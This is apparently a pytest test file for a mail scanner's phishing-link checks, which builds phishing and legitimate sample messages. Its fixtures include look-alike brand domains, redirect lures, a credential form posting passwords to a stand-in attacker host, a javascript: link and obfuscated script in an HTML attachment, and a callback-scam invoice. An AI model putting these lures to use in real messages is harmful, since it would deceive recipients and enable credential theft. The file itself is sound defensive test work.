"""The `urls` family on messages built here: each phishing sign, and honest mail that has none."""

from __future__ import annotations

import pytest

from mailmoat.scan.base import Category
from tests.conftest import make_config, make_email, scan_bytes, symbol_names

PHISH_SYMBOLS_PREFIXES = ("URL_", "PHISH_")


def ours(outcome) -> set[str]:
    return {n for n in symbol_names(outcome) if n.startswith(PHISH_SYMBOLS_PREFIXES)}


def reason(outcome, name: str) -> str:
    sym = outcome.result.get(name)
    assert sym is not None, f"{name} not in {symbol_names(outcome)}"
    return sym.reason


async def test_link_text_domain_differs_from_href_ip():
    html = '<p>Log in at <a href="http://203.0.113.7/signin">https://www.paypal.com/signin</a></p>'
    out = await scan_bytes(make_email(html=html))
    assert reason(out, "URL_HREF_MISMATCH_BRAND") == \
        "link text shows www.paypal.com (paypal) but points to 203.0.113.7"
    assert "203.0.113.7" in reason(out, "URL_IP_HOST")
    assert out.result.category is Category.PHISHING


async def test_link_text_unprotected_domain_mismatch_is_weaker():
    html = '<a href="https://tracker.other-site.test.com/x">www.shop-example.org</a>'
    out = await scan_bytes(make_email(html=html))
    assert "link text shows www.shop-example.org but points to tracker.other-site.test.com" == \
        reason(out, "URL_HREF_MISMATCH")
    assert not out.result.has("URL_HREF_MISMATCH_BRAND")


async def test_ip_literal_and_nonstandard_port():
    out = await scan_bytes(make_email(body="Verify here: http://198.51.100.23:8181/account/verify\n"))
    assert "198.51.100.23" in reason(out, "URL_IP_HOST")
    assert "port 8181" in reason(out, "URL_NONSTANDARD_PORT")


async def test_private_ip_and_localhost_are_not_phishing():
    out = await scan_bytes(make_email(body="Dev server: http://127.0.0.1:8000/ and http://10.1.2.3/\n"
                                           "and http://localhost:3000/\n"))
    assert not ours(out)


async def test_punycode_homograph_of_brand():
    # xn--pypal-4ve.com is "pаypal.com" with a Cyrillic "а".
    html = '<a href="https://xn--pypal-4ve.com/login">Sign in</a>'
    out = await scan_bytes(make_email(html=html))
    assert "xn--pypal-4ve.com is punycode for pаypal.com" in reason(out, "URL_PUNYCODE")
    assert "mixes scripts" in reason(out, "URL_MIXED_SCRIPT")
    assert "look-alike characters for paypal" in reason(out, "URL_LOOKALIKE_BRAND")


@pytest.mark.parametrize("host,how", [
    ("paypa1.com", "look-alike characters for paypal"),
    ("rnicrosoft.com", "look-alike characters for microsoft"),
    ("paypall.net", "one typo away from paypal"),
    ("paypal-account-secure.com", "embeds paypal"),
])
async def test_brand_lookalike_hosts(host, how):
    out = await scan_bytes(make_email(body=f"Please check https://{host}/login today.\n"))
    assert how in reason(out, "URL_LOOKALIKE_BRAND")


async def test_lookalike_of_company_and_partner_domains():
    cfg = make_config(bec={"protected_domains": ["partner-bank.test"]})
    out = await scan_bytes(make_email(body="Docs: https://portal.examp1e.test/x and "
                                           "https://partner-bamk.test/pay\n"), cfg)
    r = reason(out, "URL_LOOKALIKE_COMPANY")
    assert "examp1e.test uses look-alike characters for example" in r
    assert "(and 1 more)" in r


async def test_brand_in_subdomain_of_foreign_domain():
    out = await scan_bytes(make_email(body="https://paypal.com.account-review.xyz/session\n"))
    assert "puts paypal in front of unrelated account-review.xyz" in reason(out, "URL_BRAND_IN_SUBDOMAIN")


async def test_shortener():
    out = await scan_bytes(make_email(body="Track your parcel: https://bit.ly/3xYz12\n"))
    assert reason(out, "URL_SHORTENER") == "link goes through the shortener bit.ly"


async def test_open_redirect_known_and_generic():
    html = ('<a href="https://www.google.com/url?q=https://evil-login.xyz/a&sa=D">open</a>'
            '<a href="https://news.somesite.test.com/r?redirect=https%3A%2F%2Fevil2.xyz%2F">b</a>')
    out = await scan_bytes(make_email(html=html))
    sym = out.result.get("URL_OPEN_REDIRECT")
    assert "www.google.com redirects to evil-login.xyz" in sym.reason
    assert sym.score == 2.0  # the known redirector wins over the generic one


async def test_data_and_javascript_urls():
    html = ('<a href="javascript:document.location=\'http://x.test\'">Open</a>'
            '<iframe src="data:text/html;base64,PGgxPkxvZ2luPC9oMT4="></iframe>'
            '<img src="data:image/png;base64,iVBORw0KGgo=">')
    out = await scan_bytes(make_email(html=html))
    assert reason(out, "URL_JAVASCRIPT").startswith("link runs code: javascript:")
    assert reason(out, "URL_DATA_URI").startswith("iframe carries a data: URL (data:text/html")


async def test_inline_data_image_alone_is_fine():
    out = await scan_bytes(make_email(html='<p>Logo <img src="data:image/png;base64,iVBORw0KGgo="></p>'))
    assert not ours(out)


async def test_credential_form_in_body():
    html = ('<form action="https://collect.evil-site.xyz/post.php" method="post">'
            '<input type="email" name="email"><input type="password" name="pass">'
            '<input type="submit"></form>')
    out = await scan_bytes(make_email(html=html))
    assert reason(out, "PHISH_FORM_PASSWORD") == "the HTML body has a password field (pass)"
    assert "email" in reason(out, "PHISH_FORM_CREDENTIALS")
    assert reason(out, "PHISH_FORM_FOREIGN_ACTION") == \
        "a form in the body submits to evil-site.xyz, not the sender's sender.test"


async def test_search_form_to_other_domain_is_not_credential_form():
    html = '<form action="https://search.other.test.com/s"><input type="text" name="q"></form>'
    out = await scan_bytes(make_email(html=html))
    assert not ours(out)


async def test_credential_form_in_html_attachment():
    page = (b"<html><body><h1>OneDrive</h1><form action='https://203.0.113.9/p.php'>"
            b"<input name='login'><input type='password' name='pwd'></form>"
            b"<script>var s=atob('aHR0cDovL2V2aWw=');</script></body></html>")
    out = await scan_bytes(make_email(attachments=[("Invoice_8812.html", "text/html", page)]))
    assert reason(out, "PHISH_HTML_ATTACHMENT_FORM") == \
        "attachment Invoice_8812.html holds a password field"
    assert "atob(" in reason(out, "PHISH_HTML_ATTACHMENT_SCRIPT")
    # URLs inside the attachment are analysed too.
    assert "attached HTML" in reason(out, "URL_IP_HOST")


async def test_brand_in_display_name_not_matching_sender():
    out = await scan_bytes(make_email(sender='"PayPal Service" <x@randomdomain.biz>'))
    assert reason(out, "PHISH_BRAND_DISPLAY_NAME") == \
        "display name 'PayPal Service' names paypal but the address is x@randomdomain.biz"


async def test_chinese_brand_in_display_name():
    out = await scan_bytes(make_email(sender='"中国工商银行" <notice@icbc-security.top>'))
    assert "names icbc" in reason(out, "PHISH_BRAND_DISPLAY_NAME")
    assert "embeds icbc" in reason(out, "PHISH_BRAND_LOOKALIKE_SENDER")


async def test_brand_display_name_from_the_brand_itself_is_fine():
    out = await scan_bytes(make_email(sender='"PayPal" <service@paypal.com>',
                                      html='<a href="https://www.paypal.com/myaccount">paypal.com</a>'))
    assert not ours(out)


async def test_brand_country_domain_counts_as_the_brand():
    out = await scan_bytes(make_email(sender='"eBay" <news@ebay.com.cn>'))
    assert not out.result.has("PHISH_BRAND_DISPLAY_NAME")


async def test_surname_that_is_a_brand_is_not_the_brand():
    out = await scan_bytes(make_email(sender='"Scott Norton" <scott.norton@gmail.com>'))
    assert not ours(out)


async def test_brand_named_with_account_lure():
    out = await scan_bytes(make_email(
        subject="Your Netflix account is suspended",
        body="Please verify your billing information to reactivate your membership.\n",
        sender="Support <support@account-help.biz>"))
    assert "names netflix" in reason(out, "PHISH_BRAND_LURE")


async def test_everyday_word_names_the_brand_only_with_a_capital():
    body = ("Find an apple on our partner sites and click on it to enter your login email "
            "and password for the draw.\n")
    out = await scan_bytes(make_email(subject="Back to school", body=body,
                                      sender="Shop <news@shop.test>"))
    assert not out.result.has("PHISH_BRAND_LURE")  # the fruit
    out = await scan_bytes(make_email(subject="Your Apple ID is locked", body=body,
                                      sender="Support <support@account-help.biz>"))
    assert "names apple" in reason(out, "PHISH_BRAND_LURE")  # the company


async def test_legit_newsletter_with_many_links_to_own_domain():
    links = "".join(
        f'<p><a href="https://click.shop.example.org/t/{i}?u=https://www.shop.example.org/p/{i}">'
        f'www.shop.example.org/p/{i}</a> <img src="https://img.shop.example.org/{i}.png"></p>'
        for i in range(60))
    html = f"<html><body><h1>Weekly deals</h1>{links}<a href='https://www.shop.example.org/unsub'>" \
           f"Unsubscribe</a></body></html>"
    out = await scan_bytes(make_email(sender='"Shop Weekly" <news@shop.example.org>', html=html,
                                      subject="This week's deals"))
    assert not ours(out)
    assert out.result.category is Category.CLEAN


async def test_config_brands_replace_builtins_and_define_new_ones():
    cfg = make_config(phishing={"brands": ["paypal", "Acme Bank: acmebank.test, acme.test"]})
    out = await scan_bytes(make_email(sender='"Acme Bank Alerts" <alerts@acrnebank.test>',
                                      body="see https://netflix-billing.xyz/\n"), cfg)
    assert "names acme bank" in reason(out, "PHISH_BRAND_DISPLAY_NAME")
    assert "acrnebank.test uses look-alike characters for acmebank" in \
        reason(out, "PHISH_BRAND_LOOKALIKE_SENDER")
    assert not out.result.has("URL_LOOKALIKE_BRAND")  # netflix is not protected any more


async def test_unknown_builtin_brand_is_a_clear_config_error():
    from mailmoat.errors import ConfigError

    with pytest.raises(ConfigError, match="unknown built-in brand 'nosuchbrand'"):
        await scan_bytes(make_email(), make_config(phishing={"brands": ["nosuchbrand"]}))


async def test_extra_shorteners():
    cfg = make_config(phishing={"shorteners_extra": ["sho.rt"]})
    out = await scan_bytes(make_email(body="https://sho.rt/abc\n"), cfg)
    assert out.result.has("URL_SHORTENER")


async def test_same_href_again_with_brand_text_is_still_checked():
    bad = "http://taboufashions.test.com/secure/"
    html = (f'<a href="{bad}"><img src="https://images.paypal.com/logo.gif"></a>'
            f'<a href="{bad}">https://www.paypal.com/us/</a>')
    out = await scan_bytes(make_email(html=html))
    assert reason(out, "URL_HREF_MISMATCH_BRAND") == \
        "link text shows www.paypal.com (paypal) but points to taboufashions.test.com"


async def test_brand_sender_whose_links_all_go_elsewhere():
    html = ('<img src="https://images.paypal.com/logo.gif">'
            '<a href="http://joeypc.test.com/restore">Click here to restore your account</a>')
    out = await scan_bytes(make_email(sender='"PayPal" <service@paypal.com>', html=html))
    assert reason(out, "PHISH_BRAND_SENDER_FOREIGN_LINKS") == \
        "mail from paypal.com (paypal) links only to test.com"
    # A person writing from gmail.com is not Google.
    out = await scan_bytes(make_email(sender="Ann <ann@gmail.com>", html=html))
    assert not out.result.has("PHISH_BRAND_SENDER_FOREIGN_LINKS")


async def test_obfuscated_lure_words_in_subject_and_display_name():
    out = await scan_bytes(make_email(subject="Someone tried to Iog in to your account"))
    assert reason(out, "PHISH_OBFUSCATED_WORD") == (
        "subject 'Someone tried to Iog in to your account' spells 'log in' as 'Iog in'")
    out = await scan_bytes(make_email(sender='"Microsоft Support" <a@b.test>'))  # Cyrillic о
    assert "spells 'microsoft'" in reason(out, "PHISH_OBFUSCATED_WORD")
    out = await scan_bytes(make_email(subject="Blog in progress: account update for the café"))
    assert not out.result.has("PHISH_OBFUSCATED_WORD")


async def test_brand_lure_without_a_sender_domain():
    raw = make_email(subject="Microsoft account unusual sign-in activity",
                     body="We detected unusual activity. Verify your password now.",
                     sender="undisclosed-recipients:;")
    out = await scan_bytes(raw)
    assert "comes from no sender domain" in reason(out, "PHISH_BRAND_LURE")


async def test_safelinks_wrapper_is_looked_through():
    from urllib.parse import quote

    inner = "http://198.51.100.77/owa/login"
    wrapped = f"https://eur01.safelinks.protection.outlook.com/?url={quote(inner, safe='')}&data=x"
    out = await scan_bytes(make_email(html=f'<a href="{wrapped}">Open document</a>'))
    assert "198.51.100.77" in reason(out, "URL_IP_HOST")


async def test_english_with_stray_accents_is_obfuscation():
    body = ("Confirm Your Phrase Log In now.\nThis price wás correct át the time of sending this "
            "emáil. ThiŠ is the moment why bitcoin ánd digital assets were created.\n")
    out = await scan_bytes(make_email(subject="USD$28022.13 - 2023 Bitčoin ATH", body=body))
    r = reason(out, "PHISH_ACCENTED_ENGLISH")
    assert "'wás' for 'was'" in r and "'Bitčoin' for 'bitcoin'" in r


async def test_french_and_portuguese_text_is_not_accented_english():
    fr = ("Bonjour, la réunion a été déplacée à jeudi. Nous serons là à 10 h, près de "
          "l'entrée. Merci de confirmer votre présence, à bientôt.\n")
    pt = "Olá, você já recebeu o relatório? Está tudo bem às três horas? Até já, obrigado.\n"
    for body in (fr, pt):
        out = await scan_bytes(make_email(subject="Réunion", body=body))
        assert not out.result.has("PHISH_ACCENTED_ENGLISH")
    # A few accented names in English text are not obfuscation either.
    out = await scan_bytes(make_email(body="José and Zoë met Søren at the café; it was fun.\n"))
    assert not out.result.has("PHISH_ACCENTED_ENGLISH")


CALLBACK = ("Dear Member,\nWe appreciate you selecting our security suite. Your subscription "
            "was renewed and you have been charged $299.95.\nBilling ID: 1820953715\n"
            "If you didn't authorize this transaction, call us at +1 (866) 955-9506 to cancel "
            "and get a refund.\n")


async def test_callback_phishing_invoice_with_phone_number_and_no_link():
    out = await scan_bytes(make_email(sender="Bill Desk <billing.desk732@gmail.com>",
                                      subject="Order Confirmation", body=CALLBACK))
    sym = out.result.get("PHISH_CALLBACK")
    assert sym is not None and sym.score == 5.0  # free-mail sender: 1.25 × 4
    assert "'$299.95'" in sym.reason and "+1 (866) 955-9506" in sym.reason
    out = await scan_bytes(make_email(sender="Billing <billing@vendor.test>", body=CALLBACK))
    assert out.result.get("PHISH_CALLBACK").score == 4.0


async def test_real_receipt_with_links_or_without_dispute_is_not_callback():
    links = "".join(f'<a href="https://shop.test/p/{i}">item {i}</a> ' for i in range(3))
    out = await scan_bytes(make_email(sender="Shop <orders@shop.test>", body=CALLBACK,
                                      html=f"<p>{CALLBACK}</p>{links}"))
    assert not out.result.has("PHISH_CALLBACK")
    out = await scan_bytes(make_email(
        sender="Shop <orders@shop.test>",
        body="Order number 5512: you were charged $42.10. Questions? 555-201-3344.\n"))
    assert not out.result.has("PHISH_CALLBACK")


@pytest.mark.parametrize("host", ["ec2-16-170-148-0.eu-north-1.compute.amazonaws.com",
                                  "61-30-80-157.static.tfn.example.net",
                                  "ip-203-0-113-9.provider.test"])
async def test_link_to_a_generic_ip_hostname(host):
    out = await scan_bytes(make_email(body=f"Watch here: http://{host}/stream\n"))
    assert f"{host}, a generic name for an IP address" in reason(out, "URL_IP_HOSTNAME")


async def test_dashed_names_that_are_not_ip_addresses():
    for host in ("www.2023-10-15-release.example.org", "my-web-site-now.example.com",
                 "300-1-2-3.example.net"):
        out = await scan_bytes(make_email(body=f"See http://{host}/\n"))
        assert not out.result.has("URL_IP_HOSTNAME"), host


async def test_image_only_html_with_links():
    html = ('<a href="http://go.promo.test/r1"><div style="background:url(https://cdn.test/a.png);'
            'width:575px;height:621px;text-indent:-9999px"> </div></a>'
            '<a href="http://go.promo.test/r2"><img src="https://cdn.test/b.png"></a>')
    # make_email always adds a text part; an image-only sender sends HTML alone.
    raw = (b"From: Promo <news@promo.test>\r\nTo: bob@example.test\r\nSubject: for you\r\n"
           b"Date: Sat, 28 Nov 2026 10:00:00 +0000\r\nMessage-ID: <3@promo.test>\r\n"
           b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
           + html.encode())
    out = await scan_bytes(raw)
    assert "0 characters of text and 2 link(s), e.g. to go.promo.test" in \
        reason(out, "HTML_IMAGE_ONLY")


async def test_html_with_text_or_with_a_text_part_is_not_image_only():
    html = '<a href="https://shop.test/x"><img src="https://shop.test/a.png"></a>'
    out = await scan_bytes(make_email(
        body="Our autumn catalogue is here: forty pages of coats, boots and knitwear, with free "
             "delivery on every order until the end of October.\n", html=html))
    assert not out.result.has("HTML_IMAGE_ONLY")


async def test_newsletter_click_tracker_on_the_senders_domain():
    html = ('<a href="http://news.letter.test/links/p34/98h/?url=www.ebuyer.co.uk%2Fsearch">'
            'Ebuyer.co.uk</a> <a href="http://news.letter.test/links/p34/12h/?url=www.amazon.com'
            '%2Fexec%2Fobidos">United States</a>')
    out = await scan_bytes(make_email(sender="Editor <editor@letter.test>", html=html))
    assert not ours(out) & {"URL_HREF_MISMATCH", "URL_OPEN_REDIRECT"}
    # The same tracker in mail from someone else is a redirect to judge…
    out = await scan_bytes(make_email(sender="Someone <x@other.test>", html=html))
    assert out.result.has("URL_OPEN_REDIRECT")
    # …and a tracker whose target is not what the text shows is still a mismatch.
    html = '<a href="http://news.letter.test/l/?url=https%3A%2F%2Fevil-login.xyz%2F">ebuyer.co.uk</a>'
    out = await scan_bytes(make_email(sender="Editor <editor@letter.test>", html=html))
    assert "link text shows ebuyer.co.uk but points to news.letter.test" == \
        reason(out, "URL_HREF_MISMATCH")


async def test_image_only_html_whose_text_part_is_only_its_links():
    html = ('<a href="http://promo.example.click/q1"><img src="cid:a1"></a>'
            '<a href="http://promo.example.click/q2"><img src="cid:a2"></a>')
    out = await scan_bytes(make_email(
        body="[HJAGSHSGCVUTSA]<http://promo.example.click/q1>\n\n[KJSCUIYDG]<http://promo.example"
             ".click/q2>\n", html=html))
    assert out.result.has("HTML_IMAGE_ONLY")
    out = await scan_bytes(make_email(
        body="Hi Kari, the choir festival programme is attached; the pictures below link to the "
             "hotel and the concert hall. We hope to see your choir in Amsterdam in March, and "
             "please tell us how many singers will come so we can book rooms in time.\n",
        html=html))
    assert not out.result.has("HTML_IMAGE_ONLY")


async def test_google_translate_proxy_is_looked_through():
    html = ('<a href="https://bafybei-ipfs-dweb-link.translate.goog/?_x_tr_sl=auto&_x_tr_tl=en">'
            'Confirm your phrase</a>')
    out = await scan_bytes(make_email(html=html))
    assert "is Google Translate's proxy for bafybei.ipfs.dweb.link" in \
        reason(out, "URL_OPEN_REDIRECT")
    assert "bafybei.ipfs.dweb.link on free hosting" in reason(out, "URL_FREE_HOSTING")
    html = '<a href="https://www-paypal--secure-com.translate.goog/login">log in</a>'
    out = await scan_bytes(make_email(html=html))
    assert "proxy for www.paypal-secure.com" in reason(out, "URL_OPEN_REDIRECT")
    assert out.result.has("URL_LOOKALIKE_BRAND")
    out = await scan_bytes(make_email(
        body="Read it in English: https://translate.google.com/translate?u=https://evil.example/x\n"))
    assert out.result.get("URL_OPEN_REDIRECT").score == 2.0


async def test_combosquatted_link_named_after_the_display_name():
    # "Monero" from an unrelated domain, linking to getmoneroupdate.org (name + keywords).
    html = ('<p>Our new desktop wallet is out: <a href="https://app.getmoneroupdate.org/">'
            'download</a></p>')
    raw = make_email(sender="Monero <monero@business-data-lighthouse.test>", html=html)
    out = await scan_bytes(raw)
    r = reason(out, "URL_COMBOSQUAT_SENDER_NAME")
    assert "getmoneroupdate.org" in r and "'monero'" in r and "'update'" in r
    # A plain-text URL counts too, and a camel-case name is one word ("CoinTracker").
    out = await scan_bytes(make_email(sender="CoinTracker <info@dragonlab.test>",
                                      body="Get it: https://download.cointrackerdesktop.com\n"))
    assert "cointrackerdesktop.com" in reason(out, "URL_COMBOSQUAT_SENDER_NAME")


@pytest.mark.parametrize("sender, url", [
    # the sender's own name is in its domain: its own update site is fine
    ("Monero <news@getmonero.test>", "https://moneroupdate.example.org/"),
    # the link is the plain name, no keyword: a mailing service sending for the brand
    ("Acme Widgets <acme@mailservice.test>", "https://acme.example/"),
    ("Acme Widgets <acme@mailservice.test>", "https://www.widgetsworld.example/"),
    # generic display names say nothing about who writes
    ("Support Team <help@desk.test>", "https://supportportal.example/"),
    # a keyword without the name
    ("Jane Doe <jane@example.org>", "https://secure-login.example.net/"),
])
async def test_no_combosquat_without_the_pattern(sender, url):
    out = await scan_bytes(make_email(sender=sender, body=f"See {url} for details.\n"))
    assert not out.result.has("URL_COMBOSQUAT_SENDER_NAME")


async def test_filler_run_salting():
    body = "Your offer is inside.\n" + "." * 400 + "\n" + "_" * 80 + "\nSigned\n"
    out = await scan_bytes(make_email(body=body))
    assert "400 '.' in a row" in reason(out, "TEXT_FILLER_RUN")
    # Separator lines of a line's width are everyday mail.
    out = await scan_bytes(make_email(body="Hi\n" + "=" * 72 + "\n" + "-" * 140 + "\nBye\n"))
    assert not out.result.has("TEXT_FILLER_RUN")
    # In the HTML (hidden salting) as well.
    out = await scan_bytes(make_email(html="<p>Hello</p><div style='display:none'>"
                                           + "_" * 300 + "</div>"))
    assert out.result.has("TEXT_FILLER_RUN")


async def test_camel_case_redirect_parameter_and_webmail_dereferrer():
    html = ('<a href="https://deref-gmx.net/mail/client/AbC/dereferrer/?redirectUrl='
            'https%3A%2F%2Fevil.example.com%2Flogin">your account</a>')
    out = await scan_bytes(make_email(html=html))
    sym = out.result.get("URL_OPEN_REDIRECT")
    assert sym is not None and "evil.example.com" in sym.reason
    assert sym.score == 2.0  # a known open redirector: full weight


async def test_brand_text_linking_to_the_sender_itself_is_a_plain_mismatch():
    # A newsletter lists a shop's address and counts the click through its own tracker.
    html = ('<p>This week\'s deals: <a href="https://clickthru.news-letter.test.com/c?id=7">'
            'walmart.com</a></p>')
    out = await scan_bytes(make_email(sender='"Tech News" <news@news-letter.test.com>',
                                      subject="This week in tech", html=html))
    assert "a brand the message does not present itself as" in reason(out, "URL_HREF_MISMATCH")
    assert not out.result.has("URL_HREF_MISMATCH_BRAND")
    # Presenting itself as the brand, the same link is an impersonation again.
    out = await scan_bytes(make_email(sender='"Walmart" <news@news-letter.test.com>',
                                      subject="This week in tech", html=html))
    assert out.result.has("URL_HREF_MISMATCH_BRAND")
